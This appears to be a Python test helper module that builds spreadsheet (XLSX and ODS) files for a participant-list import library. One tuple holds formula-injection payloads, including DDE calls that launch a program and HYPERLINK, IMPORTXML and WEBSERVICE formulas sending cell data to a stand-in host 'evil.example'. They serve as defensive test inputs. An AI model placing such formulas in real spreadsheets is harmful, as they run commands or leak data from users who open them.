"""Files that lists come in, taken apart and put together."""

from __future__ import annotations

import io
import zipfile

from office_lists import workbook

TITLES = ["No. Peserta", "Nama", "Tgl Lahir", "Bidang"]
ROW = ["LMG-2026-101", "Sulastri", "14/03/1990", "Las"]
GOOD = workbook({"Peserta": [TITLES, ROW]})


FORMULAS = (
    "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example?\"&A1)", "@SUM(1+1)*cmd|'x'!A1",
    "+1+cmd|'x'!A1", "-2+3+cmd|'x'!A1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\t=1+1", "=WEBSERVICE(\"http://evil.example\")",
)  # fmt: skip
"""Cells that a spreadsheet would run."""


def repacked(content: bytes, **parts: bytes) -> bytes:
    """The zip with these parts replaced or added; `__` in a name stands for a slash."""
    replaced = {name.replace("__", "/"): part for name, part in parts.items()}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in replaced:
                new.writestr(name, old.read(name))
        for name, part in replaced.items():
            new.writestr(name, part)
    return out.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def ods(body: str, manifest: str = "") -> bytes:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        f"<office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", f"<manifest>{manifest}</manifest>")
        archive.writestr("content.xml", content)
    return out.getvalue()


def ods_cell(text: str, more: str = "") -> str:
    attributes = f'office:value-type="string" {more}'
    return f"<table:table-cell {attributes}><text:p>{text}</text:p></table:table-cell>"


def ods_sheet(*rows: str) -> str:
    return '<table:table table:name="Jadwal">' + "".join(rows) + "</table:table>"


def ods_row(*cells: str) -> str:
    return f"<table:table-row>{''.join(cells)}</table:table-row>"


def with_sheet(content: bytes, sheet: bytes) -> bytes:
    return repacked(content, **{"xl__worksheets__sheet1.xml": sheet})
